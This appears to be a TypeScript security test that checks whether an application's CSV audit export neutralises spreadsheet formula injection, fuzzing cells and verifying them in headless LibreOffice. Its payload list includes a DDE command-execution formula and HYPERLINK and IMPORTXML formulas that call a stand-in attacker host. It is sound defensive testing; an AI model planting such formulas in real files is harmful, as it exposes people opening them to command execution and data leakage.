import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

import fc from 'fast-check';

import { csvText } from '@/lib/domain/shared/csv';

import { isLong, runAttack, type Attack, type Attempt } from './support/attack';
import { drawn } from './support/hostile';
import { ask } from './support/http';
import { asOwner, clientAt, cookieOf } from './support/target';
import { hasTool, runTool } from './support/tool';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","Click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example")',
  '=1+1","=2+2',
  '"\r\n=1+1',
];

/** The cells of a CSV as a spreadsheet reads them (RFC 4180): quoted ones whole, others to the next comma or line. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n][^,\r\n]*)?)(?:,|\r\n)/gs);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

/** The formulas that LibreOffice sees in a CSV: opened without a screen, and kept as its own XML. */
async function formulasIn(csv: string, folder: string): Promise<string[] | string> {
  const file = path.join(folder, 'opened.csv');
  await writeFile(file, csv);
  const profile = `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`;
  const form = ['--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', folder];
  const args = [profile, '--headless', ...form, file];
  const { output } = await runTool('soffice', args, { milliseconds: 120_000 });
  const text = await readFile(path.join(folder, 'opened.fods'), 'utf8').catch(() => '');
  if (!text.includes('<table:table-cell')) return output.slice(0, 200);
  return [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula);
}

async function inLibreOffice(attack: Attack, csv: string): Promise<void> {
  if (!isLong()) return attack.notRun('opened in LibreOffice', 'long form');
  if (!hasTool('soffice')) return attack.notRun('opened in LibreOffice', 'not installed');
  const folder = await mkdtemp(path.join(tmpdir(), 'fascicle-a-19-'));
  const naked = await formulasIn('=1+1,plain\r\n', folder);
  attack.check('LibreOffice takes an unguarded cell for a formula', {
    value: String(naked),
    isMet: naked.length === 1,
  });
  const found = await formulasIn(csv, folder);
  attack.check('and none of ours', {
    value: typeof found === 'string' ? found : `${found.length} of ${cellsOf(csv).length} cells`,
    isMet: typeof found !== 'string' && found.length === 0,
  });
  await rm(folder, { recursive: true, force: true });
}

await runAttack('A-19', async (attack) => {
  const runs = isLong() ? 20_000 : 1_000;
  const rows = drawn(
    fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...FORMULAS)), {
      minLength: 1,
      maxLength: 4,
    }),
    runs,
  );
  attack.attempts(
    'no drawn cell begins a formula, and each row has its cells',
    rows.map((row, index): Attempt => {
      const cells = cellsOf(csvText([row]));
      const bad = cells.find(isFormula);
      const problem = bad ?? (cells.length === row.length ? null : `${cells.length} cells`);
      return { name: `row ${index}`, problem };
    }),
    { atLeast: runs },
  );
  const { clientId } = clientAt('a', 'new');
  const owner = await cookieOf('a', 'owner');
  const exported: Attempt[] = [];
  let all = '';
  for (const name of FORMULAS) {
    await asOwner('UPDATE client SET name = $1 WHERE id = $2', [name, clientId]);
    const { status, text } = await ask({
      path: `/api/audit?format=csv&client=${clientId}`,
      cookie: owner,
    });
    const bad = cellsOf(text).find(isFormula);
    exported.push({
      name,
      problem: status !== 200 ? `status ${status}` : bad === undefined ? null : `cell ${bad}`,
    });
    all += text;
  }
  attack.attempts('no cell of an exported file is a formula', exported, {
    atLeast: FORMULAS.length,
  });
  await asOwner("UPDATE client SET name = 'Erik Svensson' WHERE id = $1", [clientId]);
  await inLibreOffice(attack, all + csvText(rows.slice(0, 1_000)));
});
